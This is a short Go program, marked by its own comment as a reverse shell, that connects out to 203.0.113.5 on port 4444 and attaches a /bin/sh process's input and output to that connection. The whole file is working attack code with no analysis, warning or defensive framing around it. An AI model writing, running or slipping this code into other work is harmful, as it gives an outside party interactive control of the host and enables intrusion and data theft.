// a reverse shell
package main

import ("net"; "os/exec")

func main() {
	c, err := net.Dial("tcp", "203.0.113.5:4444")
	if err != nil { return }
	cmd := exec.Command("/bin/sh")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	cmd.Run()
}
